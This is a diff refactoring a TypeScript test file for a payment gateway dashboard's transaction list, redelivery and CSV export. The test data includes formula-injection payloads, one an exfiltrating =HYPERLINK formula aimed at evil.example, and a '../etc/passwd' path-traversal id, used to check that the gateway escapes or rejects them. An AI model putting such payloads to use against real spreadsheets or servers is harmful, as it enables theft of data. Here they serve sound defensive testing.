@@ -89,25 +89,37 @@ describe("the list", () => {
     await init(other.testPublicKey);
     const viewer = actor(keys, "viewer");
 
-    const page = await t.gateway.dashboardTransactions(viewer, false, { limit: "2" });
+    const page = await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { limit: "2" });
     expect(page.transactions.map((x) => x.id)).toEqual([c.id, b.id]);
     expect(page.hasMore).toBe(true);
-    const next = await t.gateway.dashboardTransactions(viewer, false, { limit: "2", starting_after: b.id });
+    const next = await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { limit: "2", starting_after: b.id });
     expect(next.transactions.map((x) => x.id)).toEqual([a.id]);
     expect(next.hasMore).toBe(false);
-    expect((await t.gateway.dashboardTransactions(viewer, true, {})).transactions.map((x) => x.id)).toEqual([live.id]);
-    expect((await t.gateway.dashboardTransactions(viewer, false, { q: "ada@EXAMPLE.com" })).transactions.map((x) => x.id)).toEqual([a.id]);
-    expect((await t.gateway.dashboardTransactions(viewer, false, { q: b.reference })).transactions.map((x) => x.id)).toEqual([b.id]);
-    expect((await t.gateway.dashboardTransactions(viewer, false, { status: "initiated" })).transactions).toHaveLength(3);
+    expect((await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, true), {})).transactions.map((x) => x.id)).toEqual([
+      live.id,
+    ]);
+    expect(
+      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { q: "ada@EXAMPLE.com" })).transactions.map(
+        (x) => x.id,
+      ),
+    ).toEqual([a.id]);
+    expect(
+      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { q: b.reference })).transactions.map((x) => x.id),
+    ).toEqual([b.id]);
+    expect(
+      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { status: "initiated" })).transactions,
+    ).toHaveLength(3);
 
-    expect(await refusal(t.gateway.dashboardTransactions(viewer, false, { status: "PAID" }))).toEqual({
+    expect(await refusal(t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { status: "PAID" }))).toEqual({
       status: 400,
       code: "validation_error",
       reason: "invalid_list_parameter",
       message: "Invalid query parameter: status must be one of INITIATED, PENDING, SUCCESSFUL, ABANDONED",
     });
     // Another mode's transaction is no cursor here.
-    expect(await refusal(t.gateway.dashboardTransactions(viewer, false, { starting_after: live.id }))).toMatchObject({
+    expect(
+      await refusal(t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { starting_after: live.id })),
+    ).toMatchObject({
       status: 400,
       reason: "unknown_cursor",
     });
@@ -122,7 +134,7 @@ describe("one transaction", () => {
     receiver.answer = () => ({ status: 500, body: "receiver down" });
     await t.dispatcher({ retryScheduleMs: [] }).drain();
 
-    const detail = await t.gateway.dashboardTransaction(actor(keys, "viewer"), false, id.toUpperCase());
+    const detail = await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys, "viewer"), false), id.toUpperCase());
     expect(detail.transaction).toMatchObject({ id, status: "SUCCESSFUL", merchantId: keys.id });
     expect(detail.view.paymentCurrency?.slug).toBe("BTC");
     expect(detail.view.quote).toMatchObject({ source: expect.any(String), rate: expect.stringMatching(/^\d+(\.\d+)?$/) });
@@ -150,7 +162,7 @@ describe("one transaction", () => {
       [true, theirs.id],
       [false, "../etc/passwd"],
     ] as const) {
-      expect(await refusal(t.gateway.dashboardTransaction(actor(keys), isLive, id))).toEqual({
+      expect(await refusal(t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), isLive), id))).toEqual({
         status: 404,
         code: "not_found",
         reason: "transaction_not_found",
@@ -166,11 +178,11 @@ describe("redelivery", () => {
     const { id } = await init(keys.testPublicKey);
     receiver.answer = () => ({ status: 500 });
     await t.dispatcher({ retryScheduleMs: [] }).drain();
-    const [event] = (await t.gateway.dashboardTransaction(actor(keys), false, id)).events;
+    const [event] = (await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), false), id)).events;
     expect(event?.state).toBe("FAILED");
     const sent = receiver.received.length;
 
-    expect(await refusal(t.gateway.redeliverEvent(actor(keys, "viewer"), false, event!.id))).toEqual({
+    expect(await refusal(t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys, "viewer"), false), event!.id))).toEqual({
       status: 403,
       code: "forbidden",
       reason: "role_forbidden",
@@ -179,10 +191,10 @@ describe("redelivery", () => {
     expect(receiver.received).toHaveLength(sent);
 
     receiver.answer = () => ({ status: 200, body: "thanks" });
-    const report = await t.gateway.redeliverEvent(actor(keys, "developer"), false, event!.id);
+    const report = await t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys, "developer"), false), event!.id);
     expect(report).toMatchObject({ eventId: event!.id, outcome: { state: "DELIVERED" }, attempt: { statusCode: 200, trigger: "manual" } });
     expect(receiver.received).toHaveLength(sent + 1);
-    const after = (await t.gateway.dashboardTransaction(actor(keys), false, id)).events[0]!;
+    const after = (await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), false), id)).events[0]!;
     expect(after.state).toBe("DELIVERED");
     expect(after.attempts.map((a) => [a.statusCode, a.trigger])).toEqual([
       [500, "schedule"],
@@ -203,7 +215,7 @@ describe("redelivery", () => {
       [false, "evt_doesnotexist"],
       [false, "not an event"],
     ] as const) {
-      expect(await refusal(t.gateway.redeliverEvent(actor(keys), isLive, id))).toEqual({
+      expect(await refusal(t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys), isLive), id))).toEqual({
         status: 404,
         code: "not_found",
         reason: "event_not_found",
@@ -232,7 +244,9 @@ describe("the CSV export", () => {
     await init(keys.livePublicKey, { email: "live@example.com" });
     await init(keys.testPublicKey, { email: "other@example.org" });
 
-    const all = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys, "viewer"), false, { q: "paid@example.com" }));
+    const all = await csvOf(
+      await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys, "viewer"), false), { q: "paid@example.com" }),
+    );
     expect(all.records).toHaveLength(2);
     const [header, row] = all.records as [string[], string[]];
     expect(header).toEqual(EXPORT_CSV_HEADER);
@@ -255,11 +269,13 @@ describe("the CSV export", () => {
     expect(cell("customer_name")).toBe("'-1+2");
     expect(cell("description")).toBe("'@SUM(A1)");
 
-    const usd = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, { currency: "usd", q: "plain@example.com" }));
+    const usd = await csvOf(
+      await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { currency: "usd", q: "plain@example.com" }),
+    );
     expect(usd.records.slice(1).map((r) => r[0])).toEqual([plain.id]);
     expect(usd.records[1]?.[EXPORT_CSV_HEADER.indexOf("amount")]).toBe("12.5");
 
-    const ngn = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, { currency: "NGN" }));
+    const ngn = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { currency: "NGN" }));
     expect(ngn.records.slice(1).map((r) => r[0])).toEqual([tricky.id]);
     const trickyRow = ngn.records[1]!;
     expect(trickyRow[EXPORT_CSV_HEADER.indexOf("customer_name")]).toBe(`'=HYPERLINK("http://evil.example","click")`);
@@ -268,9 +284,9 @@ describe("the CSV export", () => {
     expect(ngn.text.endsWith("\r\n")).toBe(true);
 
     // No filter: the mode's whole set, newest first.
-    const everything = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, {}));
+    const everything = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), {}));
     expect(everything.records).toHaveLength(5);
-    const live = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), true, {}));
+    const live = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), true), {}));
     expect(live.records.slice(1).map((r) => r[EXPORT_CSV_HEADER.indexOf("customer_email")])).toEqual(["live@example.com"]);
     expect(live.records[1]?.[EXPORT_CSV_HEADER.indexOf("mode")]).toBe("live");
   });
@@ -279,14 +295,18 @@ describe("the CSV export", () => {
     const keys = await t.merchant({ name: "Dash csv refusals" });
     const other = await t.merchant({ name: "Dash csv stranger" });
     await init(keys.testPublicKey);
-    expect(await refusal(t.gateway.exportTransactionsCsv(actor(keys), false, { "created[gte]": "yesterday", limit: "5" }))).toEqual({
+    expect(
+      await refusal(
+        t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { "created[gte]": "yesterday", limit: "5" }),
+      ),
+    ).toEqual({
       status: 400,
       code: "validation_error",
       reason: "invalid_list_parameter",
       message:
         "Invalid query parameters: limit is not a parameter of this list; created[gte] must be an ISO 8601 date-time with a time zone, e.g. 2026-11-01T00:00:00Z",
     });
-    const theirs = await csvOf(await t.gateway.exportTransactionsCsv(actor(other, "viewer"), false, {}));
+    const theirs = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(other, "viewer"), false), {}));
     expect(theirs.records).toEqual([EXPORT_CSV_HEADER]);
   });
 
@@ -334,7 +354,7 @@ describe("the CSV export", () => {
       name: "Ann|@SUM(1)",
       description: 'Refund;=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
     });
-    const { records } = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, {}));
+    const { records } = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), {}));
     const row = records[1] as string[];
     const cell = (name: string) => row[EXPORT_CSV_HEADER.indexOf(name)];
     expect(cell("customer_name")).toBe("Ann|'@SUM(1)");
